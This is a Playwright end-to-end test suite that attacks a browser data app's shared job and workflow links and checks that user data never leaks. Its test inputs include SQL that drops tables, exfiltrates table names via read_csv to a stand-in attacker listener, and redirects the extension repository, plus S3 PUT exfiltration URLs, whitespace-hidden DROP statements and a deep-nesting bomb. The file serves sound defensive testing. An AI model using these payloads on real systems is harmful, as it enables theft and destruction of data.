/**
 * Issue 14's attack suite: hand-made job and workflow links against the built app in chromium, with a listener on
 * 127.0.0.1 standing for the link author's server. Every test plants canary values in the user's data (Workspace
 * tables, workspace folders, crawled files) and fails if any request reaches the listener or a canary reaches an
 * output the link chose; every test fails on an uncaught page error.
 */
import { expect, test, type Page } from '@playwright/test';
import { strToU8, zlibSync } from 'fflate';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { encodePayload, SHARE_PREFIX } from '../../src/share/codec';
import { writeFigures } from '../support/figures';
import { crawlFolder, dropFiles, openApp } from './helpers';

const CANARY = 'canary-5f1e2d9a';
const MINE = 'id,v\n1,mine\n2,mine\n';
/** What the user hands to an attacking job: it must not reach the listener either. */
const BOUND = 'bound-7c41e0';

interface Hit { method: string; url: string; body: string }

/** The link author's server: records every request (method, URL, body) and answers as permissively as it can. */
async function listener(): Promise<{ port: number; hits: Hit[]; close: () => Promise<void> }> {
  const hits: Hit[] = [];
  const server: Server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      hits.push({ method: req.method ?? '', url: req.url ?? '', body: Buffer.concat(chunks).toString('latin1') });
      res.setHeader('Access-Control-Allow-Origin', '*');
      res.setHeader('Access-Control-Allow-Methods', '*');
      res.setHeader('Access-Control-Allow-Headers', '*');
      res.setHeader('Access-Control-Expose-Headers', '*');
      res.setHeader('ETag', '"e"');
      res.end(req.method === 'GET' ? 'a,b\n1,2\n' : '');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { port: (server.address() as { port: number }).port, hits, close: () => new Promise((r) => server.close(() => r())) };
}

type Json = Record<string, unknown>;
const job = (name: string, nodes: Json[], parameters: Json[] = []) => ({ version: 1, name, nodes, parameters, bookmark: 'job-bookmark-disable' });
const source = (id: string, spec: Json) => ({ id, kind: 'source', source: spec });
const sqlStep = (id: string, input: string, sql: string) => ({ id, kind: 'transform', inputs: [input], step: { id, kind: 'Sql', params: { sql } } });
const target = (id: string, input: string, spec: Json = { type: 'download', format: 'csv' }) => ({ id, kind: 'target', inputs: [input], target: spec });
const jobLink = (def: Json & { name: string }, inputs: Json[] = []) => `/#/share/${encodePayload({ v: 1, kind: 'job', name: def.name, definition: def, inputs })}`;

/** Fail the test on any uncaught error in the page. */
function watchErrors(page: Page): string[] {
  const errors: string[] = [];
  page.on('pageerror', (err) => errors.push(String(err)));
  return errors;
}

/** The user's own data: a Workspace table `salaries` and `mine`, a private workspace folder, a crawled catalog. */
async function plantUserData(page: Page): Promise<void> {
  await openApp(page);
  await dropFiles(page, [{ name: 'salaries.csv', content: `name,salary\n${CANARY},120000\nbob,90000\n` }]);
  await expect(page.getByTestId('table-meta')).toContainText('2 rows');
  await dropFiles(page, [{ name: 'mine.csv', content: MINE }]);
  await expect.poll(() => engineQuery(page, 'SELECT count(*)::INTEGER FROM mine').catch(() => null)).toEqual([[2]]);
  await page.evaluate(async (canary) => {
    const root = await navigator.storage.getDirectory();
    for (const [folder, file] of [['private', 'secret.csv'], ['reports', 'keep.csv'], ['reports', 'notes.csv']] as const) {
      const dir = await root.getDirectoryHandle(folder, { create: true });
      const w = await (await dir.getFileHandle(file, { create: true })).createWritable();
      await w.write(`k,secret\n1,${canary}\n`);
      await w.close();
    }
  }, CANARY);
}

async function crawlShop(page: Page): Promise<void> {
  const root = join(mkdtempSync(join(tmpdir(), 'epoxy-e2e-attack-')), 'shop');
  mkdirSync(join(root, 'orders'), { recursive: true });
  mkdirSync(join(root, 'products'), { recursive: true });
  writeFileSync(join(root, 'orders', 'a.csv'), `order_id,customer,total\n1,${CANARY},9.5\n2,ann,3.25\n`);
  writeFileSync(join(root, 'products', 'p.csv'), 'sku,title,price,stock\nA1,lamp,12.5,3\nB2,desk,99,1\n');
  await crawlFolder(page, 'shop', root);
}

const slot = (page: Page, nodeId: string) => page.locator(`[data-testid="shared-input"][data-node="${nodeId}"]`);
const outputSlot = (page: Page, nodeId: string) => page.locator(`[data-testid="shared-output-slot"][data-node="${nodeId}"]`);

async function bindFile(page: Page, nodeId: string, content = MINE, name = 'mine_upload.csv'): Promise<void> {
  await slot(page, nodeId).getByTestId('file-input').setInputFiles({ name, mimeType: 'text/csv', buffer: Buffer.from(content) });
  await expect(slot(page, nodeId).getByTestId('input-reads')).toContainText(name);
}

/** Click Run and wait for the outcome; returns the run state. */
async function run(page: Page): Promise<string> {
  await expect(page.getByTestId('run-shared')).toBeEnabled();
  await page.getByTestId('run-shared').click();
  const state = page.getByTestId('shared-run-state').or(page.getByTestId('share-action-error'));
  await expect(state).toBeVisible({ timeout: 30_000 });
  return (await page.getByTestId('shared-run-state').getAttribute('data-state').catch(() => null)) ?? 'NOT_RUN';
}

/**
 * Run a job whose SQL is an attack: once the SQL guard refuses it, Run stays disabled with the guard's message
 * at the step; until then it runs in the sandbox. Either way the caller then checks the property that matters.
 */
async function runOrRefused(page: Page): Promise<string> {
  if (await page.getByTestId('sql-problem').count()) {
    await expect(page.getByTestId('run-shared')).toBeDisabled();
    return 'REFUSED';
  }
  return run(page);
}

/** The text of every download the run offers. */
async function downloads(page: Page): Promise<string[]> {
  const out: string[] = [];
  for (const button of await page.getByTestId('shared-output').all()) {
    const [d] = await Promise.all([page.waitForEvent('download'), button.click()]);
    out.push(readFileSync((await d.path())!, 'utf8'));
  }
  return out;
}

async function tableAt(page: Page, database: string, table: string): Promise<{ Location?: string } | null> {
  return page.evaluate(([db, t]) => new Promise<{ Location?: string } | null>((resolve, reject) => {
    const open = indexedDB.open('epoxy-catalog');
    open.onerror = () => reject(open.error);
    open.onsuccess = () => {
      const get = open.result.transaction('tables').objectStore('tables').get([db, t]);
      get.onsuccess = () => { open.result.close(); resolve(get.result ? { Location: get.result.StorageDescriptor?.Location } : null); };
      get.onerror = () => reject(get.error);
    };
  }), [database, table] as const);
}

async function workspaceFiles(page: Page, folder: string): Promise<string[]> {
  return page.evaluate(async (name) => {
    const dir = await (await navigator.storage.getDirectory()).getDirectoryHandle(name).catch(() => null);
    const out: string[] = [];
    if (dir) for await (const [n] of (dir as unknown as { entries(): AsyncIterable<[string, unknown]> }).entries()) out.push(n);
    return out.sort();
  }, folder);
}

async function engineQuery(page: Page, sql: string): Promise<unknown[][]> {
  return page.evaluate(async (q) => (await (globalThis as unknown as { epoxy: { query(s: string): Promise<{ rows: unknown[][] }> } }).epoxy.query(q)).rows, sql);
}

let server: Awaited<ReturnType<typeof listener>>;
/** What each attack ran into, for the attack table in test/RELIABILITY.md (`npm run reliability:report`). */
const outcomes: { attack: string; outcome: string; listenerRequests: number }[] = [];
const recordOutcome = (attack: string, outcome: string) => outcomes.push({ attack, outcome, listenerRequests: server.hits.length });
test.beforeEach(async () => { server = await listener(); });
test.afterEach(async () => { await server.close(); });
test.afterAll(() => { if (outcomes.length) writeFigures('share-attacks', { attacks: outcomes }); });

test('a job link whose sources name a Workspace table, opfs://private, a crawled folder and a catalog table reads none of them: Run waits for the user, and what the user binds replaces each', async ({ page }) => {
  const errors = watchErrors(page);
  await plantUserData(page);
  await crawlShop(page);
  const crawled = (await tableAt(page, 'shop', 'orders'))!.Location!;
  const def = job('innocent', [
    source('s_table', { type: 'table', name: 'salaries' }),
    source('s_opfs', { type: 'file', path: 'opfs://private' }),
    source('s_crawl', { type: 'file', path: crawled }),
    source('s_cat', { type: 'catalog', database: 'shop', table: 'orders' }),
    target('o_table', 's_table'), target('o_opfs', 's_opfs'), target('o_crawl', 's_crawl'), target('o_cat', 's_cat'),
  ]);
  await page.goto(jobLink(def));
  await expect(page.getByTestId('shared-job-title')).toContainText('innocent');
  await expect(page.getByTestId('run-shared')).toBeDisabled();
  // The review says what each source names, that it is not read, and that the link declares no columns.
  await expect(slot(page, 's_table')).toContainText('The link names a Workspace table called salaries. That is not read');
  await expect(slot(page, 's_opfs')).toContainText('the workspace folder opfs://private');
  await expect(slot(page, 's_cat')).toContainText('the catalog table shop.orders');
  await expect(slot(page, 's_table')).toContainText('The link does not say which columns it expects');
  for (const id of ['s_table', 's_opfs', 's_crawl', 's_cat']) await expect(page.getByTestId('run-blockers')).toContainText(`${id}: give it your own files or pick one of your tables`);
  await page.screenshot({ path: 'test-results/share-attack-unbound.png', fullPage: true });

  // The user binds their own data: a dropped file, a Workspace table and a catalog table of their choice.
  await bindFile(page, 's_opfs');
  await bindFile(page, 's_crawl');
  await slot(page, 's_table').getByTestId('pick-table').selectOption({ label: 'mine' });
  await expect(slot(page, 's_table').getByTestId('input-reads')).toContainText('your Workspace table mine');
  await slot(page, 's_cat').getByTestId('pick-table').selectOption({ label: 'shop.products' });
  await expect(slot(page, 's_cat').getByTestId('input-reads')).toContainText('your catalog table shop.products');
  expect(await run(page)).toBe('SUCCEEDED');
  await expect(page.getByTestId('shared-run-state')).toContainText('8 rows read');
  const outputs = await downloads(page);
  expect(outputs).toHaveLength(4);
  for (const text of outputs) expect(text).not.toContain(CANARY);
  expect(outputs.filter((t) => t.includes('mine')).length).toBe(3);
  expect(outputs.some((t) => t.includes('lamp'))).toBe(true);
  // The Workspace table handed over is still the user's, unchanged.
  expect(await engineQuery(page, 'SELECT count(*)::INTEGER FROM salaries')).toEqual([[2]]);
  expect(server.hits).toEqual([]);
  expect(errors).toEqual([]);
  for (const what of ['a Workspace table (salaries)', 'a workspace folder (opfs://private)', 'a crawled folder', 'a catalog table (shop.orders)']) {
    recordOutcome(`job link with no declared inputs whose source reads ${what}`, 'Run disabled until the user binds the slot; the review says the named source is not read; outputs hold only what the user bound (0 canaries in 4 outputs)');
  }
});

test('an S3 target that PUTs to the link author is shown with its host but never used: the default is a download, and S3 takes only URLs the user pastes', async ({ page }) => {
  const errors = watchErrors(page);
  const mine = await listener();
  await plantUserData(page);
  const evil = `http://127.0.0.1:${server.port}/exfil/part-00000.csv?X-Amz-Signature=0123456789abcdef0123&X-Amz-Expires=3600`;
  const def = job('backup', [source('data', { type: 'file', path: 'opfs://private' }), target('out', 'data', { type: 's3', location: 's3://exfil/out', putUrls: evil, format: 'csv' })]);
  await page.goto(jobLink(def));
  const out = outputSlot(page, 'out');
  await expect(out.getByTestId('output-proposal')).toContainText('S3 bucket exfil, key prefix out');
  await expect(out).toContainText(`PUT to 127.0.0.1:${server.port}, key exfil/part-00000.csv (signature hidden)`);
  await expect(out).not.toContainText('0123456789abcdef0123');
  await expect(out.getByTestId('dest-download')).toBeChecked();
  await bindFile(page, 'data', `k,secret\n1,${CANARY}\n`);
  expect(await run(page)).toBe('SUCCEEDED');
  expect((await downloads(page)).join('')).toContain(CANARY);
  expect(server.hits).toEqual([]);

  // Choosing S3 needs the user's own URLs; the link's are never filled in.
  await out.getByTestId('dest-s3').check();
  await expect(out.getByTestId('put-urls')).toHaveValue('');
  await expect(page.getByTestId('run-shared')).toBeDisabled();
  await expect(page.getByTestId('run-blockers')).toContainText('out: paste your own presigned PUT URLs');
  await out.getByTestId('put-urls').fill(`http://127.0.0.1:${mine.port}/mine/result.csv`);
  expect(await run(page)).toBe('SUCCEEDED');
  expect(mine.hits.filter((h) => h.method === 'PUT').map((h) => h.url)).toEqual(['/mine/result.csv']);
  expect(mine.hits.find((h) => h.method === 'PUT')!.body).toContain(CANARY);
  expect(server.hits).toEqual([]);
  await mine.close();
  expect(errors).toEqual([]);
  recordOutcome('S3 target PUTting the rows to the link author', 'shown as "PUT to host, key … (signature hidden)", never used; default download; S3 only with PUT URLs the user pastes (the user\'s own listener got the 1 PUT)');
});

test('SQL steps cannot drop, read or send what the user did not hand over, nor leave settings for a later job', async ({ page }) => {
  const errors = watchErrors(page);
  await plantUserData(page);
  const attacks = [
    ['drop', 'SELECT * FROM input; DROP TABLE salaries'],
    ['subquery', 'SELECT *, (SELECT string_agg(name, \',\') FROM salaries) AS leak FROM input'],
    ['fetch', `SELECT * FROM input, read_csv('http://127.0.0.1:${server.port}/x.csv')`],
    // Table functions take no subquery, but a variable is folded in: the engine's table names (and any data) in a URL.
    ['exfil', `SELECT * FROM input; SET VARIABLE d = (SELECT string_agg(table_name, ',') FROM duckdb_tables()); SELECT * FROM read_csv('http://127.0.0.1:${server.port}/x.csv?d=' || getvariable('d'))`],
    ['setting', `SELECT * FROM input; SET custom_extension_repository='http://127.0.0.1:${server.port}/ext'`],
    ['load', 'SELECT * FROM input; LOAD json'],
  ] as const;
  for (const [name, sql] of attacks) {
    await page.goto(jobLink(job(`attack_${name}`, [source('input_1', { type: 'file', path: 'x.csv' }), sqlStep('q', 'input_1', sql), target('out', 'q')])));
    await expect(page.getByTestId('shared-job-title')).toContainText(`attack_${name}`);
    // The whole statement is on screen before anything runs.
    await expect(page.getByTestId('sql-fragment')).toHaveText(sql);
    await bindFile(page, 'input_1', `id,v\n1,${BOUND}\n`);
    // Refused by the guard, failed in the sandbox, or (for the subquery) run without the other table's rows.
    const state = await runOrRefused(page);
    recordOutcome(`Sql step: ${name}`, state === 'REFUSED' ? `refused at the review, Run disabled: "${(await page.getByTestId('sql-problem').first().textContent())?.trim()}"` : `ran in the sandbox engine: ${state}`);
    if (state === 'SUCCEEDED') for (const text of await downloads(page)) expect(text).not.toContain(CANARY);
    // The user's Workspace table survives, with its rows.
    expect(await engineQuery(page, 'SELECT count(*)::INTEGER FROM salaries')).toEqual([[2]]);
  }
  // A later, unrelated job still runs as it should (it gets a fresh engine; user SQL may not read settings, so
  // current_setting is refused there), and the Workspace engine keeps the default extension repository.
  await page.goto(jobLink(job('later', [source('input_1', { type: 'file', path: 'x.csv' }), sqlStep('q', 'input_1', 'SELECT v, lower(v) AS low FROM input'), target('out', 'q')])));
  await bindFile(page, 'input_1');
  expect(await run(page)).toBe('SUCCEEDED');
  const [later] = await downloads(page);
  expect(later).toContain('mine');
  expect(later).not.toContain(String(server.port));
  expect(JSON.stringify(await engineQuery(page, "SELECT current_setting('custom_extension_repository')"))).not.toContain(String(server.port));
  expect(server.hits).toEqual([]);
  expect(JSON.stringify(server.hits)).not.toContain(BOUND);
  expect(errors).toEqual([]);
});

test('400 spaces of padding cannot push "; DROP TABLE" off screen: the review shows it inside the card', async ({ page }) => {
  const errors = watchErrors(page);
  await page.setViewportSize({ width: 1000, height: 800 });
  await openApp(page);
  const sql = `SELECT * FROM input${' '.repeat(400)}; DROP TABLE salaries`;
  await page.goto(jobLink(job('padded', [source('input_1', { type: 'file', path: 'x.csv' }), sqlStep('q', 'input_1', sql), target('out', 'q')])));
  const fragment = page.getByTestId('sql-fragment');
  await expect(fragment).toContainText('; DROP TABLE salaries');
  await expect(fragment).toContainText('␣×400');
  const card = (await page.getByTestId('share-page').boundingBox())!;
  // Where the DROP is drawn: the rectangle of the text itself, not only of its element.
  const rect = await fragment.evaluate((el) => {
    const walker = document.createTreeWalker(el, NodeFilter.SHOW_TEXT);
    for (let n = walker.nextNode(); n; n = walker.nextNode()) {
      const i = n.textContent!.indexOf('DROP TABLE');
      if (i < 0) continue;
      const range = document.createRange();
      range.setStart(n, i);
      range.setEnd(n, i + 'DROP TABLE salaries'.length);
      const r = range.getBoundingClientRect();
      return { left: r.left, right: r.right, top: r.top, width: r.width, height: r.height };
    }
    return null;
  });
  expect(rect).not.toBeNull();
  expect(rect!.width).toBeGreaterThan(0);
  expect(rect!.left).toBeGreaterThanOrEqual(card.x);
  expect(rect!.right).toBeLessThanOrEqual(card.x + card.width);
  expect(rect!.right).toBeLessThanOrEqual(1000);
  await fragment.scrollIntoViewIfNeeded();
  await expect(fragment.getByText('; DROP TABLE salaries', { exact: false })).toBeVisible();
  await page.screenshot({ path: 'test-results/share-attack-padding.png', fullPage: true });
  expect(errors).toEqual([]);
  recordOutcome('400 spaces pushing "; DROP TABLE" off screen', 'whitespace runs shown as ␣×400; the DROP is drawn inside the card at 1000 px; the guard refuses the statement');
});

test('a workspace target onto an existing folder of the user\'s never replaces it without the named confirmation, and its catalog registration is shown and off', async ({ page }) => {
  const errors = watchErrors(page);
  await plantUserData(page);
  const def = job('report', [source('data', { type: 'file', path: 'x.csv' }), target('out', 'data', { type: 'workspace', path: 'reports', database: 'default', table: 'stolen', format: 'csv' })]);
  await page.goto(jobLink(def));
  const out = outputSlot(page, 'out');
  await expect(out.getByTestId('output-proposal')).toHaveText('The link proposes the workspace folder opfs://reports registered as the catalog table default.stolen.');
  await expect(out.getByTestId('dest-download')).toBeChecked();
  await bindFile(page, 'data');
  expect(await run(page)).toBe('SUCCEEDED');
  expect(await workspaceFiles(page, 'reports')).toEqual(['keep.csv', 'notes.csv']);
  expect(await tableAt(page, 'default', 'stolen')).toBeNull();

  // Writing there is the user's choice, and overwriting their folder needs the checkbox that names it.
  await out.getByTestId('dest-workspace').check();
  await expect(out.getByTestId('dest-path')).toHaveValue('reports');
  await expect(out.getByTestId('confirm-replace-folder')).toBeVisible();
  await expect(out.locator('label.confirm')).toHaveText('replace opfs://reports (2 files)');
  await expect(page.getByTestId('run-shared')).toBeDisabled();
  await expect(page.getByTestId('run-blockers')).toContainText('opfs://reports already holds 2 files of yours');
  await page.screenshot({ path: 'test-results/share-attack-workspace.png', fullPage: true });
  expect(await workspaceFiles(page, 'reports')).toEqual(['keep.csv', 'notes.csv']);
  await out.getByTestId('confirm-replace-folder').check();
  expect(await run(page)).toBe('SUCCEEDED');
  // The user's files are replaced by the run's output, published as a version folder (issue 16).
  expect(await workspaceFiles(page, 'reports')).toEqual(['_epoxy_v1']);
  expect(await tableAt(page, 'default', 'stolen')).toBeNull();
  expect(server.hits).toEqual([]);
  expect(errors).toEqual([]);
  recordOutcome('workspace target onto an existing folder, registering a catalog table', 'default download left the 2 files; replacing needs the checkbox "replace opfs://reports (2 files)"; the catalog table was never registered');
});

test('a shared workflow with a job and a trigger named like the user\'s lists both as conflicts and replaces nothing silently', async ({ page }) => {
  const errors = watchErrors(page);
  await plantUserData(page);
  await crawlShop(page);
  // The user's own job `daily` and cron trigger `nightly`.
  await page.evaluate(() => new Promise<void>((resolve, reject) => {
    const open = indexedDB.open('epoxy-catalog');
    open.onsuccess = () => {
      const tx = open.result.transaction(['jobs', 'triggers'], 'readwrite');
      const def = { version: 1, name: 'daily', nodes: [{ id: 'src', kind: 'source', source: { type: 'catalog', database: 'shop', table: 'products' } }, { id: 'out', kind: 'target', inputs: ['src'], target: { type: 'download', format: 'csv' } }], parameters: [], bookmark: 'job-bookmark-disable' };
      tx.objectStore('jobs').put({ Name: 'daily', Command: { Name: 'glueetl' }, DefaultArguments: {}, Epoxy: { definition: def } }, 'daily');
      tx.objectStore('triggers').put({ Name: 'nightly', Type: 'SCHEDULED', Schedule: 'cron(0 2 * * ? *)', Actions: [{ JobName: 'daily' }], Epoxy: { enabled: true } }, 'nightly');
      tx.oncomplete = () => { open.result.close(); resolve(); };
      tx.onerror = () => reject(tx.error);
    };
  }));
  const evil = `http://127.0.0.1:${server.port}/exfil/out.csv`;
  const wf = {
    workflow: 'helpful',
    triggers: [{ Name: 'nightly', Type: 'ON_DEMAND', Actions: [{ JobName: 'daily' }] }],
    jobs: [job('daily', [source('src', { type: 'table', name: 'salaries' }), target('out', 'src', { type: 's3', location: 's3://exfil/out', putUrls: evil, format: 'csv' })])],
  };
  await page.goto(`/#/share/${encodePayload({ v: 1, kind: 'workflow', name: 'helpful', definition: wf, inputs: [] })}`);
  await expect(page.getByTestId('shared-workflow-title')).toContainText('helpful');
  await expect(page.getByTestId('conflict')).toHaveCount(2);
  await expect(page.locator('[data-key="job:daily"]')).toContainText('You already have a job named daily (your triggers nightly use it)');
  await expect(page.locator('[data-key="job:daily"]').getByTestId('conflict-rename')).toBeChecked();
  await expect(page.locator('[data-key="job:daily"]').getByTestId('conflict-name')).toHaveValue('daily_shared');
  await expect(page.locator('[data-key="trigger:nightly"]').getByTestId('conflict-name')).toHaveValue('nightly_shared');
  const wfJob = page.locator('[data-testid="shared-workflow-job"][data-job="daily"]');
  await expect(wfJob).toContainText(`PUT to 127.0.0.1:${server.port}, key exfil/out.csv`);
  await expect(page.getByTestId('add-workflow')).toBeDisabled();
  await expect(page.getByTestId('add-blockers')).toContainText('job daily, src: pick one of your catalog tables for it');
  await wfJob.getByTestId('pick-table').selectOption({ label: 'shop.products' });
  await page.screenshot({ path: 'test-results/share-attack-workflow.png', fullPage: true });
  await page.getByTestId('add-workflow').click();
  await expect(page.getByTestId('workflow-added')).toBeVisible();

  const stored = await page.evaluate(() => new Promise<Record<string, unknown>>((resolve) => {
    const open = indexedDB.open('epoxy-catalog');
    open.onsuccess = () => {
      const tx = open.result.transaction(['jobs', 'triggers']);
      const out: Record<string, unknown> = {};
      for (const [store, key] of [['jobs', 'daily'], ['jobs', 'daily_shared'], ['triggers', 'nightly'], ['triggers', 'nightly_shared']]) {
        const get = tx.objectStore(store!).get(key!);
        get.onsuccess = () => { out[`${store}:${key}`] = get.result; };
      }
      tx.oncomplete = () => { open.result.close(); resolve(out); };
    };
  }));
  const daily = stored['jobs:daily'] as { Epoxy: { definition: { nodes: { source?: { table: string } }[] } } };
  expect(daily.Epoxy.definition.nodes[0]!.source!.table).toBe('products');
  expect(stored['triggers:nightly']).toMatchObject({ Type: 'SCHEDULED', Schedule: 'cron(0 2 * * ? *)', Actions: [{ JobName: 'daily' }], Epoxy: { enabled: true } });
  expect(stored['triggers:nightly_shared']).toMatchObject({ Type: 'ON_DEMAND', Actions: [{ JobName: 'daily_shared' }], Epoxy: { enabled: false } });
  const incoming = JSON.stringify(stored['jobs:daily_shared']);
  expect(incoming).toContain('"database":"shop","table":"products"');
  expect(incoming).not.toContain('salaries');
  expect(incoming).not.toContain(String(server.port));
  expect(server.hits).toEqual([]);
  expect(errors).toEqual([]);
  recordOutcome('shared workflow with a job and a trigger named like the user\'s', '2 conflicts listed (rename suggested: daily_shared, nightly_shared); the user\'s job and cron trigger unchanged; the incoming job reads the user\'s pick, not the link\'s table, and keeps no PUT URL');
});

test('a job link nested 200,000 deep is refused with a clear message, the previous review is cleared, and nothing throws', async ({ page }) => {
  const errors = watchErrors(page);
  await openApp(page);
  await page.goto(jobLink(job('first', [source('input_1', { type: 'file', path: 'x.csv' }), target('out', 'input_1')])));
  await expect(page.getByTestId('shared-job-title')).toContainText('first');
  const deep = `{"v":1,"kind":"job","name":"deep","inputs":[],"definition":{"name":"deep","nodes":[],"x":${'['.repeat(200_000)}${']'.repeat(200_000)}}}`;
  const bytes = zlibSync(strToU8(deep), { level: 9 });
  const text = SHARE_PREFIX + Buffer.from(bytes).toString('base64url');
  expect(deep.length).toBeGreaterThan(400_000);
  await page.goto(`/#/share/${text}`);
  await expect(page.getByTestId('share-error')).toHaveText(/nested more than 32 levels deep/);
  await expect(page.getByTestId('shared-job-title')).toHaveCount(0);
  await expect(page.getByTestId('shared-job-steps')).toHaveCount(0);
  expect(errors).toEqual([]);
  expect(server.hits).toEqual([]);
  recordOutcome(`job link nested 200,000 deep (${Math.round(deep.length / 1000)} KB)`, `refused: "${(await page.getByTestId('share-error').textContent())?.trim()}"; the previous review cleared; no page error`);
});
